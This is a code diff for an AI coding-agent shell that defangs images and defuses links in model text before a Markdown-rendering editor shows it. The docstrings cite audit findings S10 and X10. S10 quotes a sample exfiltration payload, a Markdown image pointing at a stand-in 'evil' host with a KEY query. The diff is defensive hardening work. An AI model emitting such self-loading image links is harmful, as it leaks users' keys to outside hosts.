@@ -17,8 +17,9 @@ from pathlib import Path
 from typing import Any
 
 from shell.core.messages import DataBlock, TextBlock, ToolResult
-from shell.core.remoteimages import defang_images
+from shell.core.remoteimages import ImageDefuser, defang_images
 from shell.core.textsafety import sanitize
+from shell.frontend.linkopen import LINK_HOLD, defuse_links
 from shell.permissions import paths
 from shell.permissions.shellsplit import split_command
 
@@ -29,11 +30,20 @@ MAX_PREVIEW_BYTES = 1_000_000
 """Files larger than this get no diff preview (the result still says what changed)."""
 
 
+def editor_defuser() -> ImageDefuser:
+    """What the model's text goes through on its way to an editor, which renders it as
+    Markdown: no image or tag loads by itself, and no link the TUI would ask about
+    (``file://``, ``vscode://``, a look-alike host) is a link (finding X10): the editor
+    opens a clicked link of any scheme with no question."""
+    return ImageDefuser(defuse_links, LINK_HOLD)
+
+
 def one_line(text: str, width: int = TITLE_WIDTH) -> str:
     """``text`` as one sanitised line of at most ``width`` characters, with no image or
-    tag that loads by itself: editors render titles, option names and plan entries as
-    Markdown too (finding S10: ``Read ![x](https://evil/?k=KEY)`` fetched unasked)."""
-    return defang_images(_plain_line(text, width))
+    tag that loads by itself and no link that would ask: editors render titles, option
+    names and plan entries as Markdown too (finding S10: ``Read ![x](https://evil/?k=KEY)``
+    fetched unasked)."""
+    return defuse_links(defang_images(_plain_line(text, width)))
 
 
 def _plain_line(text: str, width: int) -> str:
